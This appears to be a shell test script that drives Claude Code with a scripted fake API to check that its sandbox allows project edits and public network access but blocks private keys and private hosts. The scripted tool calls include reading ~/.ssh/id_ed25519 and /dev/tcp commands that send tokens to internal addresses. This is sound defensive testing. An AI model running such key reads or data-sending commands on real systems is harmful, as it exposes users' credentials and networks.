# Claude Code itself, driven by a scripted API: works on the project, reaches the public, nothing private.
ready
[[ -x /usr/local/bin/claude ]] || { check "Claude Code is installed (checks/run does it)" false; exit; }
public=$(token) private=$(token)

# The conversation: what the model asks the client's tools to do.
script() {
    local home=$1
    python3 - "$home" "$public" "$private" <<'END'
import json, sys
home, public, private = sys.argv[1:]
def bash(command): return {"name": "Bash", "input": {"command": command, "description": "a step"}}
def reach(address, token): return bash(f"exec 3<>/dev/tcp/{address}/443 && echo {token} >&3 && head -1 <&3")
print(json.dumps([
    {"name": "Read", "input": {"file_path": f"{home}/project/src/main.py"}},
    {"name": "Edit", "input": {"file_path": f"{home}/project/src/main.py", "old_string": "hello", "new_string": "edited"}},
    {"name": "Read", "input": {"file_path": f"{home}/.ssh/id_ed25519"}},
    bash("cat ~/.ssh/id_ed25519"),
    reach("public.test", public),
    reach("10.1.2.3", private),
    reach("192.168.77.20", private),
    bash("id -u; cat /proc/self/status | grep NoNewPrivs"),
]))
END
}
# result NUMBER: what the client said about that call, counted from 1; `error` first if it failed.
result() {
    python3 -c 'import json, sys
for r in map(json.loads, open("/run/results")):
    if r["call"] == int(sys.argv[1]): print("error" if r["error"] else "ok", r["text"])' "$1"
}
claude() {
    as-user "$1" env ANTHROPIC_BASE_URL=http://203.0.113.20:8000 ANTHROPIC_API_KEY=sk-ant-checks-0000 \
        timeout 90 rcc claude -p --append-system-prompt "the user's own word" "do what you are told" </dev/null
}

for user in dev root; do
    home=$(getent passwd $user | cut -d: -f6)
    script "$home" >/run/script.json
    rm -f /run/results /run/results.system
    ip netns exec outside python3 "$lib/anthropic_api.py" 8000 /run/script.json /run/results &
    api=$!
    within 5 test -e /run/results
    check "$user: a session in print mode runs to its end" says '^done$' -- claude $user
    check "$user: it was told what the network allows, behind the user's own words" \
        says "the user's own word Network: this session runs in a sandbox. It reaches all of the public internet" -- \
        cat /run/results.system
    check "$user: every step was made" says '^8$' -- bash -c 'wc -l </run/results'
    check "$user: it edited a file of the project" says edited -- cat "$home/project/src/main.py"
    check "$user: as that user" says "^$user$" -- stat -c %U "$home/project/src/main.py"
    check "$user: it could not read a key with its own tool" says '^error' -- result 3
    check "$user: nor with a shell" says '^error.*' 'No such file' -- result 4
    check "$user: the key is nowhere in what the API got" fails grep -q PRIVATE /run/results
    check "$user: it reached a public host by name" says '200 OK' -- result 5
    check "$user: which received it" [ "$(arrived "$public")" -gt 0 ]
    check "$user: it did not reach a private host" says '^error' -- result 6
    check "$user: nor a neighbour" says '^error' -- result 7
    check "$user: neither received anything" [ "$(arrived "$private")" = 0 ]
    check "$user: nor a connection attempt" fails grep -E '^tcp .* (10.1.2.3|192.168.77.20) 443 syn' /mnt/log/outside
    check "$user: the user's own settings were not touched" fails test -e "$home/.claude.json"
    kill $api
    wait $api 2>/dev/null
done
